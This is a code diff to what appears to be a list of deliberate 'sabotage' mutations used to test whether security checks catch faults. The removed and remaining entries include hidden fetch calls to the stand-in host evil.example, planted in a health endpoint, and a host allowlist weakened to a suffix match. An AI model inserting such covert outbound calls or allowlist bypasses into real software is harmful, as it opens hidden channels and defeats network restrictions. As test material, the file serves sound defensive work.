@@ -19,13 +19,6 @@ export const outboundCalls: readonly Sabotage[] = [
   ),
   sabotage(
     'SEC-5',
-    'a host that ends like one of the list is called',
-    file,
-    '![...hosts, host].includes(called)',
-    "![...hosts, host].some((one) => called.endsWith(one ?? ' '))",
-  ),
-  sabotage(
-    'SEC-5',
     'hosts are called in clear',
     file,
     "protocol !== 'https:' || ",
@@ -51,13 +44,6 @@ export const outboundCalls: readonly Sabotage[] = [
     'src/ops/health.ts',
     'const { id, tag, timestamp }',
     "const ask = fetch;\n      if (c.env.APP_ENV === '') await ask('https://evil.example');\n      const { id, tag, timestamp }",
-  ),
-  sabotage(
-    'SEC-5',
-    'a second way out, in brackets',
-    'src/ops/health.ts',
-    'const { id, tag, timestamp }',
-    "if (c.env.APP_ENV === '') await globalThis['fetch']('https://evil.example');\n      const { id, tag, timestamp }",
   ),
   sabotage(
     'ERR-2',
